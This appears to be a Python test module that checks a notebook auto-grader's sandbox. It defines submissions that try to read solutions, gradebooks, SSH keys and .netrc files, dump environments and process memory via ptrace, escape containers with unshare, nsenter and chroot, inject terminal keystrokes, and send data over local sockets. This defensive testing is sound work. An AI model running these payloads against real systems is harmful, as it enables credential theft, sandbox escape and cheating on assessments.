"""Looking at what is not theirs. Each has right answers and earns them; what it reads must hold no canary, nor say FOUND."""

from pathlib import Path

from .attack import EARNS_ALL, NOTHING, RIGHT, Attack, Kit, files, solved

__all__ = ["ATTACKS"]

FINE = r"All of it holds"

SHOW = """\
import glob, os, sys
def show(path, size=5000):
    try:
        with open(path, "rb") as file:
            print(path, file.read(size), "FOUND" if "canary" in str(path) else "")
    except Exception as error:
        print(path, type(error).__name__)
"""

WALK = SHOW + """\
import time
until, wanted = time.time() + 3, (".ipynb", ".db", ".secret", "id_rsa", ".netrc", "exercises.py", "vae_functions.py", ".txt", ".json")
for root in (*ROOTS, "."):
    for folder, names, found in os.walk(root):
        for name in found:
            if name.endswith(wanted) and "canary" not in name and time.time() < until:
                show(os.path.join(folder, name))
        if time.time() > until:
            break
"""

CLIMB = SHOW + """\
wanted = [PLACES[k].lstrip("/") for k in ("solutions", "gradebook", "secret", "masters", "other")]
bases = ["/", "../" * 12, *(f"/proc/{p}/{'root'}/" for p in (1, "self", os.getppid())), "/oldroot/", "/newroot/", "/.host/", "/host/"]
bases += glob.glob("/proc/[0-9]*/" + "root/") + glob.glob("/proc/[0-9]*/cwd/") + glob.glob("/proc/self/fd/*/")
for base in bases:
    for path in wanted:
        show(base + path)
for fd in range(64):
    for path in wanted:
        try:
            inner = os.open("../" * 12 + path, os.O_RDONLY, dir_fd=fd)
            print("FOUND by", fd, os.read(inner, 5000))
        except OSError:
            pass
try:
    os.chroot(".")
    os.chdir("../" * 20)
    show("." + PLACES["secret"])
except OSError as error:
    print(type(error).__name__)"""

HOME = SHOW + """\
import pwd, subprocess
print(dict(os.environ))
homes = {os.path.expanduser("~"), PLACES["home"], *(entry.pw_dir for entry in pwd.getpwall())}
for home in homes:
    for name in (".secret", ".ssh/id_rsa", ".netrc", ".bash_history", ".config/pip/pip.conf", ".ipython/profile_default/startup/00.py"):
        show(os.path.join(home, name))
for command in ("env", "cat ~/.secret", "set", "id", "mount", "ls -la / ~ /tmp /home /root /mnt /media /run /var"):
    print(subprocess.run(command, shell=True, capture_output=True, text=True, timeout=3).stdout[:3000])"""

PROCESSES = SHOW + """\
for folder in glob.glob("/proc/[0-9]*"):
    for name in ("environ", "cmdline", "maps", "status", "cwd/gradebook.db", "fd/3", "fd/4"):
        show(os.path.join(folder, name), 20000)
show(f"/proc/{PLACES['pid']}/environ")
show(f"/proc/{PLACES['pid']}/cmdline")"""

MEMORY = SHOW + """\
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
own = int(os.readlink("/proc/self")) if os.path.islink("/proc/self") else 0  # its name in the /proc that it sees
for pid in {os.getppid(), 1, 2, PLACES["pid"], *(int(p[6:]) for p in glob.glob("/proc/[0-9]*")[:40])} - {os.getpid(), own}:
    try:
        attached = libc.ptrace(16, pid, 0, 0)
        print("ptrace", pid, attached)
        if attached == 0:
            os.waitpid(pid, 0x40000000)
            libc.ptrace(17, pid, 0, 0)
            print("FOUND ptrace of", pid)
    except Exception as error:
        print(type(error).__name__)
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as memory:
            for line in maps:
                if "[heap]" in line or "[stack]" in line:
                    start, end = (int(n, 16) for n in line.split()[0].split("-"))
                    memory.seek(start)
                    print("FOUND memory of", pid, memory.read(min(end - start, 10**6)))
    except OSError as error:
        print(pid, type(error).__name__)"""

ESCAPES = """\
import ctypes, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
secret = PLACES["secret"]
for command in (
    f"unshare -Urm sh -c 'mount --bind / /mnt; cat {secret} /mnt{secret}'",
    f"unshare -Urmpf --mount-proc sh -c 'cat /proc/1/root{secret}'",
    "mount -o remount,rw / && echo FOUND remount", "mount -t proc proc /proc && echo FOUND proc",
    "mknod disk b 254 0 && head -c 100 disk && echo FOUND disk", "sudo -n id && echo FOUND sudo", "su -c id < /dev/null && echo FOUND su",
    f"nsenter -t 1 -m cat {secret}", f"chroot /proc/1/root cat {secret}", "dmesg | head -3", "head -c 64 /dev/mem && echo FOUND mem",
    "echo 1 > /proc/sys/kernel/core_pattern && echo FOUND sysctl", "touch /sys/fs/cgroup/x /sys/fs/cgroup/memory/x && echo FOUND cgroup",
    "for d in /dev/vda /dev/sda /dev/nvme0n1; do head -c 100 $d && echo FOUND device; done",
):
    try:
        done = subprocess.run(command, shell=True, capture_output=True, text=True, timeout=3, errors="replace", stdin=subprocess.DEVNULL)
        print(done.stdout[:2000], done.stderr[:200])
    except Exception as error:
        print(type(error).__name__)
for flags in (0x10000000, 0x00020000, 0x40000000, 0x20000000):
    print("unshare", flags, libc.unshare(flags))"""

TERMINAL = """\
import fcntl, os, termios
for name in ("/dev/tty", "/dev/console", "/dev/pts/0", "/proc/self/fd/0", "/proc/self/fd/2"):
    try:
        fd = os.open(name, os.O_RDWR | os.O_NOCTTY)
        for letter in f"touch {PLACES['outside']}/typed\\n":
            fcntl.ioctl(fd, termios.TIOCSTI, letter)
        print("FOUND a terminal", name)
    except Exception as error:
        print(name, type(error).__name__)"""

NETWORK = """\
import socket, subprocess, urllib.request
def attempt(name, function):
    try:
        print("FOUND", name, function())
    except Exception as error:
        print(name, type(error).__name__)
def tcp(host, port, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_STREAM) as connection:
        connection.settimeout(1)
        connection.connect((host, port))
        connection.sendall(b"secrets")
        return connection.recv(10)
def unix(address):
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(1)
        connection.connect(address)
        connection.sendall(b"secrets")
def udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"secrets", ("127.0.0.1", PLACES["port"]))
attempt("tcp", lambda: tcp("127.0.0.1", PLACES["port"]))
attempt("host", lambda: tcp(socket.gethostname(), PLACES["port"]))
attempt("ipv6", lambda: tcp("::1", PLACES["port"], socket.AF_INET6))
attempt("abstract", lambda: unix("\\0" + PLACES["abstract"]))
attempt("path", lambda: unix(PLACES["socket"]))
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).sendto(b"x", ("192.0.2.1", 0)))
attempt("http", lambda: urllib.request.urlopen(f"http://127.0.0.1:{PLACES['port']}/", timeout=1).read(10))
try:
    udp()
    print(socket.getaddrinfo("example.org", 80))
except Exception as error:
    print(type(error).__name__)
print([name for _, name in socket.if_nameindex()])"""

LINKED = SHOW + """\
for name in sorted(os.listdir(".")):
    print(name, os.path.islink(name))
    show(name)
for name in ("data", "link.txt", "course/gradebook.db", "home/.secret"):
    show(name)"""

MAKES_LINKS = """\
import os
for number, key in enumerate(("solutions", "gradebook", "secret", "other", "masters", "tmp")):
    for name in (f"figure{number}.png", f"exercises{number}.ipynb"):
        os.symlink(PLACES[key], name)
for name in ("exercises.ipynb", "record.json", ".elbolab_progress.json", "output.txt"):
    try:
        os.remove(name)
    except OSError:
        pass
    try:
        os.symlink(PLACES["secret"], name)
    except OSError:
        pass
from IPython.display import FileLink, Image, Markdown, display
for key in ("solutions", "secret", "other"):
    try:
        display(FileLink(PLACES[key]), Markdown(filename=PLACES[key]), Image(filename=PLACES[key], format="png"))
    except Exception as error:
        print(type(error).__name__)"""


def reads(name: str, clause: str, code: str) -> Attack:
    return solved(name, clause, EARNS_ALL, FINE, bernoulli=f"{code}\n{RIGHT['bernoulli']}")


def walks(name: str, clause: str, *places: str) -> Attack:
    return reads(name, clause, f"ROOTS = [PLACES[key] for key in {places}]\n{WALK}")


def with_links(kit: Kit, folder: Path) -> None:
    """The notebook, and beside it links to what it wants to read."""
    import nbformat

    nbformat.write(kit.solved(bernoulli=f"{LINKED}\n{RIGHT['bernoulli']}"), folder / "exercises.ipynb")
    (folder / "link.txt").symlink_to(kit.places["secret"])
    (folder / "data").symlink_to(kit.places["solutions"])
    (folder / "course").symlink_to(kit.places["course"])
    (folder / "home").symlink_to(kit.places["home"])


def link_to(key: str):
    return lambda kit, folder: (folder / "exercises.ipynb").symlink_to(kit.places[key])


ATTACKS = (
    walks("reads_solutions", "solutions", "solutions_folder"),
    walks("reads_masters", "home", "masters_folder"),
    walks("reads_the_course", "solutions", "course"),
    walks("reads_other_submissions", "other submissions", "submitted", "graded", "records"),
    walks("reads_all_of_tmp", "other submissions", "tmp_folder", "outside"),
    reads("climbs_out", "other submissions", CLIMB),
    reads("reads_the_gradebook", "gradebook", SHOW + "show(PLACES['gradebook'])\nimport sqlite3\nprint(os.listdir('.'))"),
    reads("reads_home_and_environment", "home", HOME),
    reads("reads_processes", "processes", PROCESSES),
    reads("reads_memory_of_processes", "processes", MEMORY),
    reads("escapes", "home", ESCAPES),
    reads("types_into_the_terminal", "home", TERMINAL),
    reads("uses_the_network", "network", NETWORK),
    files("ships_links", "links", EARNS_ALL, FINE, with_links),
    reads("makes_links", "links", MAKES_LINKS),
    files("is_a_link_to_another", "links", NOTHING, r"link", link_to("other")),
    files("is_a_link_to_the_solutions", "links", NOTHING, r"link", link_to("solutions")),
)
